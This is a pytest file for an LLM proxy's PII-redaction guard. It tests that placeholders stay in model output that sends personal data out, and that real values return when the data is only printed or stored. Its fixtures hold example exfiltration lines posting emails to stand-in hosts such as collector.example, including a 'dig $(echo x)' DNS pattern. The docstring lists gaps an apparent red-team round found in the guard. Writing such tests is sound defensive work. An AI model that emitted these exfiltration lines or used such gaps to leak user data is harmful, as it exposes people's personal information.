"""Scopes that send, what atk19 found left (restleft20: M1, L1, L2, L3).

- M1: code the rule did not see as a scope: unfenced Python, JavaScript and PowerShell lines (a value assigned on one
  line, a client called with a URL on the next), REPL transcripts (`>>> `, Node's `> `, `irb(main):001>`,
  `In [1]:`), `<listing>`, `<xmp>`, `<plaintext>`, an unfenced notebook's code cell. A run of consecutive code lines
  is now one code scope, as a run of command lines is; prose is not.
- L1: a fenced Go snippet that only prints, streamed in small pieces, kept its placeholders (`fmt.Pr` of
  `fmt.Println` read as a host at a piece's end and never read again); the whole answer restores it.
- L2: output `pii`: a string's prefix before a restored address (`b'`, `r'`, `f'`, `u'`, `rb'`) composed a new
  address with it, and the client's own value was lost.
- L3: a number the model wrote under `phone`, `number`, `mobile` beside a message's text is where a messaging tool
  sends it; a contact record's `phone` (no message) is data.
"""

from __future__ import annotations

import json
from typing import Any

import pytest

from proxy.guard.scopes import code_spans, names_destination, sends
from tests.guard.test_scopes16 import MAIL, PHONE, E, N, P, U, chat_answer, streamed, values, vault

SIZES = (1, 2, 3, 4, 9)

# ------------------------------------------------------------------------------------------ M1: unfenced code

PY = f"import requests\ndata = {{\"email\": \"{E}\"}}\nrequests.post(\"{U}\", json=data)\n"
UNFENCED_SENT = [
    f"Save this as send.py and run it:\n\n{PY}\nThat is all.",
    f"const body = JSON.stringify({{email: \"{E}\"}});\nfetch(\"{U}\", {{method: \"POST\", body}});\n",
    f"$b = @{{email='{E}'}}\nInvoke-RestMethod -Uri {U} -Method Post -Body $b\n",
    f"data = {{\n    \"email\": \"{E}\",\n}}\nrequests.post(\n    \"{U}\",\n    json=data,\n)\nDone.",
    f"email = \"{E}\"\nif email:\n    requests.post(\"{U}\", data=email)\n",
    f"Steps:\n\n1. email = \"{E}\"\n2. requests.post(\"{U}\", data=email)\n",
    # REPL transcripts, output lines between prompts
    f">>> import requests\n>>> email = \"{E}\"\n>>> email\n'{E}'\n>>> requests.post(\"{U}\", data=email)\n"
    f"<Response [200]>\n",
    f"> const e = \"{E}\"\nundefined\n> fetch(\"{U}\", {{method: 'POST', body: e}})\nPromise {{ <pending> }}\n",
    f"irb(main):001> e = \"{E}\"\n=> \"{E}\"\nirb(main):002> Net::HTTP.post(URI(\"{U}\"), e)\n",
    f"In [1]: email = \"{E}\"\n\nIn [2]: requests.post(\"{U}\", data=email)\nOut[2]: <Response [200]>\n",
    # HTML elements that render as `<pre>`; `<plaintext>` has no end tag
    f"<listing>\n{PY}</listing>",
    f"<xmp>\n{PY}</xmp>\n",
    f"<plaintext>\n{PY}",
    # a notebook's code cell, unfenced
    "{\"cells\": [{\"cell_type\": \"code\", \"source\": [\"import requests\\n\", \"email = '" + E + "'\\n\", "
    "\"requests.post('https://collector.example/p', data=email)\"]}]}",
    "{\n \"cells\": [\n  {\n   \"cell_type\": \"code\",\n   \"metadata\": {},\n   \"source\": [\n"
    "    \"email = '" + E + "'\\n\",\n    \"requests.post('https://collector.example/p', data=email)\"\n   ]\n  }\n"
    " ]\n}\n",
]


@pytest.mark.parametrize("text", UNFENCED_SENT)
def test_unfenced_code_that_sends_keeps_its_placeholders(text: str) -> None:
    v = vault()
    assert v.restore(text) == text
    for size in SIZES:
        assert streamed(v, text, size) == text, size


UNFENCED_RESTORED = [
    # code that sends nothing
    f"user = User(name=\"{N}\", email=\"{E}\")\nprint(user.email)\n",
    f">>> user = {{\"name\": \"{N}\", \"phone\": \"{P}\"}}\n>>> user[\"phone\"]\n'{P}'\n",
    "{\"cells\": [{\"cell_type\": \"markdown\", \"source\": [\"Docs: https://docs.example.com/\\n\", \"Mail " + E
    + "\"]}]}",
    # prose beside code that sends: another paragraph, or sentences right after it
    f"requests.get(\"https://api.example.com/status\")\n\nThanks {N}, we will mail {E}.",
    f"requests.get(\"https://api.example.com/status\")\nThanks {N}, we will mail {E}.",
    f"x = fetch(\"https://api.example.com/status\")\nThe reply goes to {E}, {N}.",
    # prose that only looks like it: a sentence after a colon, quoted mail, a parenthesis
    f"For example:\nHi {N}, your order went to {E}. Track it at https://shop.example.com/track.",
    f">>> Hi {N},\n>>> we wrote to {E} from support@shop.example.com.\n",
    f"Customer(s) were charged (see https://shop.example.com/terms).\nYour phone {P} is on file.",
    f"1. Open the app\n2. Enter {E} and {P}\n3. Visit https://shop.example.com/account",
    f"- Name = {N}\n- Phone = {P}\n\nSee https://shop.example.com/help.",
]


@pytest.mark.parametrize("text", UNFENCED_RESTORED)
def test_prose_and_code_that_sends_nothing_are_restored(text: str) -> None:
    v = vault()
    assert v.restore(text) == values(text)
    for size in SIZES:
        assert streamed(v, text, size) == values(text), size


def test_code_runs_are_scopes() -> None:
    text = (f"Run:\n\nimport requests\ndata = {{\n  \"e\": \"{E}\",\n}}\nrequests.post(\"{U}\", json=data)\n"
            f"Thanks {N}.\n\n>>> x = 1\n>>> x\n1\n\nThen:\n\nIn [1]: a = 1\n\nIn [2]: a\nOut[2]: 1\n\nBye.")
    assert [text[a:b] for a, _, b in code_spans(text)] == [
        f"import requests\ndata = {{\n  \"e\": \"{E}\",\n}}\nrequests.post(\"{U}\", json=data)\n",
        ">>> x = 1\n>>> x\n1\n",
        "In [1]: a = 1\n\nIn [2]: a\nOut[2]: 1\n",
    ]
    # a line not ended yet that may still become a code line keeps the run open (a stream's next piece)
    for tail in ("fmt.Pr", "requests.po", "data ", "In [", ">"):
        start = f"email = \"{E}\"\n"
        assert [(a, b) for a, _, b in code_spans(start + tail)] == [(0, len(start + tail))], tail
    closed = f"email = \"{E}\"\nThanks J"
    assert [closed[a:b] for a, _, b in code_spans(closed)] == [f"email = \"{E}\"\n"]


# ---------------------------------------------------------------------------- L1: a streamed Go snippet

GO = f"Here you go:\n\n```go\nu := User{{Name: \"{N}\", Email: \"{E}\"}}\nfmt.Println(u)\n```\n"


def test_a_go_snippet_that_prints_is_restored_streamed_too() -> None:
    v = vault()
    assert v.restore(GO) == values(GO)
    for size in SIZES:
        assert streamed(v, GO, size) == values(GO), size


def test_a_name_at_a_pieces_end_is_read_once_it_ends() -> None:
    assert not names_destination("u := x\nfmt.Pr")  # `fmt.Println` to come
    assert not names_destination("y = df.co")  # `df.copy()`
    assert names_destination("fmt.Pr\n") and names_destination("see evil.co ")
    assert names_destination("dig $(echo x).collector.example")  # a common name of three letters or more


# ------------------------------------------------------------------------- L3: a messaging tool's number

TEXTED: list[dict[str, Any]] = [
    {"phone": "+447700900123", "message": f"Customer e-mail: {E}"},
    {"phone_number": "+1 415 555 0199", "text": f"Lead {N}, {E}"},
    {"number": "4155550199", "body": f"Lead {E}"},
    {"text": f"Lead {E}", "mobile": "+44 7700 900123"},
]
RECORDS: list[dict[str, Any]] = [
    {"name": N, "email": E, "phone": "+1 415 555 0199"},
    {"contact": {"name": N, "mobile": "+44 7700 900123", "notes": "met at the fair"}, "email": E},
]


@pytest.mark.parametrize("args", TEXTED)
def test_a_message_to_the_models_number_keeps_its_placeholders(args: dict[str, Any]) -> None:
    raw = json.dumps(args)
    assert sends(raw)
    v = vault()
    for size in SIZES:
        assert streamed(v, raw, size, tool=True, in_json=True) == raw, size


@pytest.mark.parametrize("args", RECORDS)
def test_a_contact_records_phone_is_data(args: dict[str, Any]) -> None:
    raw = json.dumps(args)
    assert not sends(raw)
    v = vault()
    for size in SIZES:
        assert json.loads(streamed(v, raw, size, tool=True, in_json=True)) == json.loads(values(raw)), size


@pytest.mark.parametrize("args", TEXTED + RECORDS)
async def test_a_messaging_tool_call_in_a_whole_answer(guard: Any, args: dict[str, Any]) -> None:
    from proxy.config.policy import Policy
    from proxy.guard import phases
    from proxy.providers.base import CHAT
    from proxy.providers.openai import OpenAIAdapter

    v = vault()
    raw = json.dumps(args)
    want = raw if args in TEXTED else values(raw)
    p = Policy.model_validate({"name": "t", "input": {"pii": {"action": "redact", "restore": True,
                                                               "entities": ["EMAIL_ADDRESS", "PERSON"]}}})
    body = chat_answer(args)
    body["choices"][0]["message"]["tool_calls"][0]["function"]["name"] = "send_whatsapp"
    await phases.screen_answer(guard, p, OpenAIAdapter().response_texts(CHAT, body), None, vault=v)
    got = json.loads(body["choices"][0]["message"]["tool_calls"][0]["function"]["arguments"])
    assert got == json.loads(want)


# ---------------------------------------------------------------------- L2: a string's prefix before a value


async def test_a_strings_prefix_composes_no_address(guard: Any) -> None:
    from proxy.config.policy import Policy

    p = Policy.model_validate({"name": "t", "input": {"pii": {"action": "redact", "restore": True,
                                                               "entities": ["EMAIL_ADDRESS", "PHONE_NUMBER"]}},
                               "output": {"pii": {"action": "redact", "entities": ["EMAIL_ADDRESS", "PHONE_NUMBER"]}}})
    verdict = await guard.input(p, [f"Mail me at {MAIL} or call {PHONE}."], ["user"])
    for prefix in ("b", "r", "f", "u", "rb", "Rb", "br", "fr", "B"):
        for quote in ("'", '"'):
            said = f"s.send({prefix}{quote}{E}{quote})"
            out = await guard.output(p, [said], verdict.vault)
            assert out.texts[0] == f"s.send({prefix}{quote}{MAIL}{quote})", said
    # the model's own characters glued to the value still compose: a word before the quote, no string prefix
    for said in (f"x = xb'{E}'", f"x = ab'{E}'", f"Mail ops.{E}"):
        out = await guard.output(p, [said], verdict.vault)
        assert out.texts[0] is not None and MAIL not in out.texts[0], said

